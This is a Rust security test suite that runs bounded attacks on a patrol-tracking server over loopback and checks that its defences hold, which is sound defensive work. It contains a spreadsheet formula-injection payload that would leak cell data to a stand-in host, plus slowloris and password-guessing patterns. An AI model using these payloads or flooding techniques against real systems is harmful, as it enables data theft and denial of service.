//! Attacks on the server over loopback, each bounded in requests and time,
//! each asserting that the server stays up and nothing is stored or shown
//! that should not be. The suite grows with `docs/security.md`: every
//! defence listed there names its test here.

use std::time::{Duration, Instant};

use e2e::web::{pages_server, WebClient, PASSWORD};

/// `/health` answers within a second.
async fn healthy(url: &str) -> anyhow::Result<()> {
    let t = Instant::now();
    let resp = reqwest::Client::new()
        .get(format!("{url}/health"))
        .timeout(Duration::from_secs(1))
        .send()
        .await?;
    anyhow::ensure!(resp.status().is_success(), "health: {}", resp.status());
    anyhow::ensure!(
        t.elapsed() < Duration::from_secs(1),
        "health took {:?}",
        t.elapsed()
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_wrong_guesses_get_no_more_checks_than_the_rule_allows_and_lock_nobody_out(
) -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    // 25 wrong guesses at once from one address, each from a fresh form
    // (its own CSRF).
    let mut guesses = Vec::new();
    for i in 0..25 {
        let url = server.url.clone();
        guesses.push(tokio::spawn(async move {
            let mut c = WebClient::from_address(&url, "127.0.0.2")?;
            c.sign_in("eva", &format!("wrong guess number {i}")).await
        }));
    }
    let during = healthy(&server.url).await;
    let mut statuses = Vec::new();
    for g in guesses {
        statuses.push(g.await??.status);
    }
    during?;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let refused = statuses.iter().filter(|s| matches!(**s, 429 | 503)).count();
    let free = shared::sign_in::FREE_FAILURES as usize;
    assert!(
        checked <= free,
        "{checked} guesses were checked: {statuses:?}"
    );
    assert_eq!(checked + refused, 25, "{statuses:?}");
    // The guesser's address waits now, even with the right password...
    let mut again = WebClient::from_address(&server.url, "127.0.0.2")?;
    assert_eq!(again.sign_in("eva", PASSWORD).await?.status, 429);
    // ...but the guesser cannot lock Eva out: from her address she signs in.
    let mut eva = WebClient::new(&server.url);
    assert_eq!(eva.sign_in("eva", PASSWORD).await?.status, 303);
    healthy(&server.url).await?;
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_a_name_leaves_the_exports_as_text_and_imports_back_unchanged(
) -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    let mut eva = WebClient::new(&server.url);
    eva.sign_in("eva", PASSWORD).await?;
    let csrf = eva.get("/reference").await?.csrf().expect("csrf");
    let header = "id,name,lat,lon,radius_m,active_from,active_to,visits_per_week,minutes_per_week";
    let evil = r#"=HYPERLINK("https://example.invalid/?leak="&A1)"#;
    let file = format!(
        "{header}\n,\"{}\",57.26,16.45,80,2026-01-01,,7,90\n",
        evil.replace('"', "\"\"")
    );
    let imported = eva
        .post_file(
            "/reference/hotspots",
            &[("csrf", &csrf)],
            "file",
            file.into_bytes(),
        )
        .await?;
    assert!(imported.status < 400, "{}", imported.body);
    let export = eva.get("/reference/hotspots.csv").await?;
    // Swedish Excel's CSV: a byte-order mark and semicolons.
    let body = export
        .body
        .strip_prefix('\u{feff}')
        .expect("the export starts with a BOM");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(body.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.map(|r| r[1].to_string()))
        .collect::<Result<_, _>>()?;
    let cell = names
        .iter()
        .find(|n| n.contains("HYPERLINK"))
        .expect("the hotspot is exported");
    assert_eq!(cell, &format!("'{evil}"), "a spreadsheet shows it as text");
    assert!(
        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
        "no exported cell starts a formula: {names:?}"
    );
    // Imported back, the name is what was typed, not with the apostrophe.
    let again = eva
        .post_file(
            "/reference/hotspots",
            &[("csrf", &csrf)],
            "file",
            export.body.clone().into_bytes(),
        )
        .await?;
    assert!(again.status < 400, "{}", again.body);
    let export2 = eva.get("/reference/hotspots.csv").await?;
    assert_eq!(
        export2.body, export.body,
        "an export read back changes nothing"
    );
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_and_exports_are_never_cached_and_load_nothing_from_outside() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    let mut eva = WebClient::new(&server.url);
    eva.sign_in("eva", PASSWORD).await?;
    let client = reqwest::Client::new();
    for path in [
        "/follow-up",
        "/follow-up.csv",
        "/records",
        "/public",
        "/sign-in",
        "/health",
    ] {
        let mut req = client.get(format!("{}{path}", server.url));
        let session = eva.cookie("tl_session").expect("signed in");
        req = req.header("cookie", format!("tl_session={session}"));
        let resp = req.send().await?;
        assert_eq!(resp.status().as_u16(), 200, "{path}");
        let h = resp.headers();
        let get = |name: &str| h.get(name).and_then(|v| v.to_str().ok()).unwrap_or("");
        assert_eq!(get("cache-control"), "no-store", "{path}");
        assert_eq!(get("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(get("referrer-policy"), "no-referrer", "{path}");
        let csp = get("content-security-policy");
        for part in [
            "default-src 'none'",
            "frame-ancestors 'none'",
            "form-action 'self'",
        ] {
            assert!(csp.contains(part), "{path}: {csp}");
        }
    }
    server.stop().await;
    Ok(())
}

/// A connection from another loopback address than the checker's, so that
/// the per-address caps apply to the attacker alone.
async fn connect_from(source: &str, server: &str) -> std::io::Result<tokio::net::TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4()?;
    socket.bind(format!("{source}:0").parse().expect("source address"))?;
    socket
        .connect(server.parse().expect("server address"))
        .await
}

/// Whether the server has closed `stream` (or answered and closed it):
/// reads until the end, within `within`.
async fn closed_within(stream: &mut tokio::net::TcpStream, within: Duration) -> bool {
    use tokio::io::AsyncReadExt;
    let mut buf = [0u8; 512];
    let deadline = Instant::now() + within;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
            Err(_) => return false,
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_headers_from_one_address_neither_exhaust_the_server_nor_stay() -> anyhow::Result<()> {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir()?;
    // The production limits, with a short header timeout to keep the test
    // short.
    let mut limits = server::Limits::default();
    limits.transport.header_timeout = Duration::from_secs(2);
    let server = e2e::TestServer::start_with(dir.path(), limits).await?;
    let per_peer = limits.transport.max_connections_per_peer;
    // 300 connections from 127.0.0.2 that start a request and never end
    // its headers (slowloris).
    let mut slow = Vec::new();
    for _ in 0..300 {
        let mut s = connect_from("127.0.0.2", server.addr()).await?;
        let _ = s
            .write_all(b"GET /health HTTP/1.1\r\nhost: x\r\nx-a: ")
            .await;
        slow.push(s);
    }
    // Everyone else is served at once.
    healthy(&server.url).await?;
    // Those over the address's cap were answered 503 and closed at once.
    let mut refused = 0;
    for s in slow.iter_mut() {
        if closed_within(s, Duration::from_millis(20)).await {
            refused += 1;
        }
    }
    assert!(
        refused >= 300 - per_peer,
        "{refused} of 300 closed at once; the cap per address is {per_peer}"
    );
    // The rest are cut when their headers are late: none is left after
    // the timeout, however slowly it keeps writing.
    for s in slow.iter_mut() {
        let _ = s.write_all(b"a").await;
    }
    let started = Instant::now();
    for s in slow.iter_mut() {
        assert!(
            closed_within(s, Duration::from_secs(4)).await,
            "a slow connection is still open after {:?}",
            started.elapsed()
        );
    }
    healthy(&server.url).await?;
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_idle_kept_alive_connection_is_closed() -> anyhow::Result<()> {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir()?;
    let mut limits = server::Limits::default();
    limits.transport.header_timeout = Duration::from_secs(1);
    let server = e2e::TestServer::start_with(dir.path(), limits).await?;
    let mut s = connect_from("127.0.0.2", server.addr()).await?;
    s.write_all(b"GET /health HTTP/1.1\r\nhost: x\r\n\r\n")
        .await?;
    // The answer comes, the connection stays for the next request, and is
    // closed when none comes within the timeout.
    let started = Instant::now();
    assert!(closed_within(&mut s, Duration::from_secs(3)).await);
    assert!(
        started.elapsed() >= Duration::from_millis(900),
        "closed after {:?}, before the timeout",
        started.elapsed()
    );
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn enrolment_guesses_from_one_address_are_slowed_and_others_are_not() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let limits = server::Limits::default();
    let burst = limits.anonymous.credentials.burst as usize;
    let server = e2e::TestServer::start_with(dir.path(), limits).await?;
    // A client bound to 127.0.0.2: the guesser.
    let guesser = reqwest::Client::builder()
        .local_address("127.0.0.2".parse::<std::net::IpAddr>()?)
        .build()?;
    let mut statuses = Vec::new();
    let mut retry_after = None;
    for i in 0..burst + 10 {
        let resp = guesser
            .post(format!("{}/v1/enrol", server.url))
            .header("content-type", "application/json")
            .body(
                serde_json::json!({"code": format!("GUESS{i:04}"), "device_name": "x"}).to_string(),
            )
            .send()
            .await?;
        if resp.status() == 429 {
            retry_after = resp
                .headers()
                .get("retry-after")
                .and_then(|v| v.to_str().ok())
                .and_then(|v| v.parse::<u64>().ok());
            let body: serde_json::Value = serde_json::from_slice(&resp.bytes().await?)?;
            assert_eq!(body["error"], "too_many_requests");
            statuses.push(429);
        } else {
            statuses.push(resp.status().as_u16());
        }
    }
    let checked = statuses.iter().filter(|s| **s == 400).count();
    assert_eq!(checked, burst, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 10);
    assert!(
        retry_after.is_some_and(|s| (1..=4).contains(&s)),
        "{retry_after:?}"
    );
    // Another address is not slowed by the guesser.
    let other = reqwest::Client::builder()
        .local_address("127.0.0.3".parse::<std::net::IpAddr>()?)
        .build()?;
    let resp = other
        .post(format!("{}/v1/enrol", server.url))
        .header("content-type", "application/json")
        .body(serde_json::json!({"code": "GUESS", "device_name": "x"}).to_string())
        .send()
        .await?;
    assert_eq!(resp.status(), 400);
    assert_eq!(
        server
            .db
            .read(|c| c.query_row("SELECT count(*) FROM devices", [], |r| r.get::<_, i64>(0)))
            .await?,
        0,
        "no guess enrolled a device"
    );
    healthy(&server.url).await?;
    server.stop().await;
    Ok(())
}

/// The counts a citizen reads on one public page: the two totals and each
/// initiative's "done" (the first number of a row; the second is the
/// promise, not a count).
fn public_counts(body: &str) -> Vec<(String, u64)> {
    let mut out = Vec::new();
    for (label, rest) in [
        ("visits", "unsafe: <strong>"),
        ("inspections", "venues: <strong>"),
    ] {
        if let Some(n) = body
            .split(rest)
            .nth(1)
            .and_then(|s| s.split('<').next())
            .and_then(|n| n.parse().ok())
        {
            out.push((label.to_string(), n));
        }
    }
    for row in body.split("<tr><td>").skip(1) {
        let title = row.split('<').next().unwrap_or_default().to_string();
        if let Some(done) = row
            .split("<td class=\"n\">")
            .nth(1)
            .and_then(|s| s.split('<').next())
            .and_then(|n| n.parse().ok())
        {
            out.push((title, done));
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn public_figures_cannot_be_differenced_and_show_nothing_newer_than_their_publication(
) -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    let size = server::seed::Size {
        municipality: server::demo::MUNICIPALITIES[0].into(),
        visits: 600,
        inspections: 60,
        hotspots: 12,
        venues: 12,
        years: 2,
        officers: 3,
    };
    let db = server.db.clone();
    let now = e2e::now_ms();
    let first = size.clone();
    tokio::task::spawn_blocking(move || server::seed::seed(&db, first, now, |_, _| {})).await??;
    let citizen = reqwest::Client::new();
    let get = |path: String| {
        let (c, url) = (citizen.clone(), server.url.clone());
        async move { anyhow::Ok(c.get(format!("{url}{path}")).send().await?.text().await?) }
    };
    let front = get("/public".into()).await?;
    let periods: Vec<String> = front
        .split("href=\"/public?period=")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .map(str::to_string)
        .collect();
    let this_quarter = shared::follow_up::Period::quarter_of(now).key();
    assert!(periods.len() >= 5, "{periods:?}");
    assert!(
        !periods.contains(&this_quarter),
        "the running quarter is published: {periods:?}"
    );
    // Every published figure, by what it counts.
    let mut pages = Vec::new();
    let mut by_metric: std::collections::BTreeMap<String, Vec<(String, u64)>> = Default::default();
    for p in &periods {
        let body = get(format!("/public?period={p}")).await?;
        assert!(
            !body.contains(&this_quarter),
            "{p} counts the running quarter"
        );
        let counts = public_counts(&body);
        assert!(counts.len() >= 2, "{p}: {counts:?}");
        for (metric, n) in counts {
            by_metric.entry(metric).or_default().push((p.clone(), n));
        }
        pages.push(body);
    }
    assert!(
        by_metric["visits"].iter().any(|(_, n)| *n > 0),
        "the seeded visits are published"
    );
    // No difference of two published figures of the same thing, over
    // every pair of periods (a year minus a quarter, a quarter minus
    // another), is a count from 1 to 4; nor is any figure.
    for (metric, values) in &by_metric {
        for (p, a) in values {
            assert!(!(1..5).contains(a), "{metric} in {p} is {a}");
            for (q, b) in values {
                let d = a.abs_diff(*b);
                assert!(
                    !(1..5).contains(&d),
                    "{metric}: {p} ({a}) and {q} ({b}) differ by {d}"
                );
            }
        }
    }
    // Records arriving after today's publication are not shown until the
    // next day's: every page reads the same.
    let more = server::seed::Size {
        municipality: server::demo::MUNICIPALITIES[0].into(),
        visits: 300,
        inspections: 30,
        ..size
    };
    let db = server.db.clone();
    tokio::task::spawn_blocking(move || server::seed::seed(&db, more, now, |_, _| {})).await??;
    for (p, before) in periods.iter().zip(&pages) {
        assert_eq!(
            &get(format!("/public?period={p}")).await?,
            before,
            "{p} changed before the next publication"
        );
    }
    // A period that is not published (a tertial, the running quarter)
    // shows no figures.
    for p in ["2026-T1".to_string(), this_quarter] {
        let body = get(format!("/public?period={p}")).await?;
        assert!(public_counts(&body).is_empty(), "{p}");
    }
    healthy(&server.url).await?;
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_device_cannot_inflate_the_figures_with_overlapping_visits() -> anyhow::Result<()> {
    use shared::record::Record;
    use shared::validation::MAX_OVERLAPPING_VISITS;
    let dir = tempfile::tempdir()?;
    let server = e2e::TestServer::start(dir.path()).await?;
    server.seed_demo().await?;
    let phone =
        e2e::TestDevice::enrol(&server, "Anna Berg", shared::domain::Organisation::Police).await?;
    phone.sync().await?;
    // 200 visits of one officer at the same half hour, sent in one sync.
    let start = e2e::now_ms() - 2 * 3_600_000;
    for _ in 0..200 {
        let mut v = phone.new_visit(start)?;
        v.ended_at = Some(start + 30 * 60_000);
        phone.create(Record::PatrolVisit(v))?;
    }
    let t = Instant::now();
    let report = phone.sync().await?;
    let took = t.elapsed();
    healthy(&server.url).await?;
    let counted = server.visits_counted(phone.officer()).await?;
    assert_eq!(
        counted,
        i64::from(MAX_OVERLAPPING_VISITS),
        "the follow-up counts one person's patrols"
    );
    assert_eq!(report.rejected, 200 - MAX_OVERLAPPING_VISITS as usize);
    // The refused ones are kept in the quarantine, with the reason, and
    // stay on the phone to be corrected.
    let quarantined = server
        .db
        .read(|c| server::db::quarantine::list(c, None))
        .await?;
    assert_eq!(quarantined.len(), 200 - MAX_OVERLAPPING_VISITS as usize);
    assert!(quarantined
        .iter()
        .all(|q| q.reason.contains("other visits") && q.change_count > 0));
    let ids = phone.lock().ids(None)?;
    let refused_on_phone = ids
        .into_iter()
        .filter(|id| {
            matches!(
                phone.lock().record_sync(*id),
                Ok(app::store::RecordSync::Rejected { .. })
            )
        })
        .count();
    assert_eq!(refused_on_phone, 200 - MAX_OVERLAPPING_VISITS as usize);
    // The phone words why, in Swedish, from the problems the server listed
    // (its message is English).
    let ids = phone.lock().ids(None)?;
    let mut worded = 0;
    for id in ids {
        let state = phone.lock().record_sync(id)?;
        if let app::store::RecordSync::Rejected { code, problems, .. } = state {
            assert_eq!(code, "invalid");
            assert_eq!(problems[0].field, "started_at");
            assert_eq!(problems[0].kind.code(), "overlaps_other_visits");
            let sv = shared::vocabulary::Words::words(&problems[0], shared::vocabulary::Lang::Sv);
            assert!(
                sv.contains("överlappar tre eller fler av dina andra besök"),
                "{sv}"
            );
            worded += 1;
        }
    }
    assert_eq!(worded, 200 - MAX_OVERLAPPING_VISITS as usize);
    // An accepted visit amended is not counted against itself: it has
    // exactly two others beside it, and its edit is accepted.
    let ids = phone.lock().ids(None)?;
    let accepted = ids
        .into_iter()
        .find(|id| {
            matches!(
                phone.lock().record_sync(*id),
                Ok(app::store::RecordSync::Synced)
            )
        })
        .expect("an accepted visit");
    phone.update(accepted, |r| {
        if let Record::PatrolVisit(v) = r {
            v.contacts.increment(1);
        }
    })?;
    let again = phone.sync().await?;
    assert_eq!((again.acknowledged, again.rejected), (1, 0));
    eprintln!("200 overlapping visits judged in {took:?}");
    server.stop().await;
    Ok(())
}
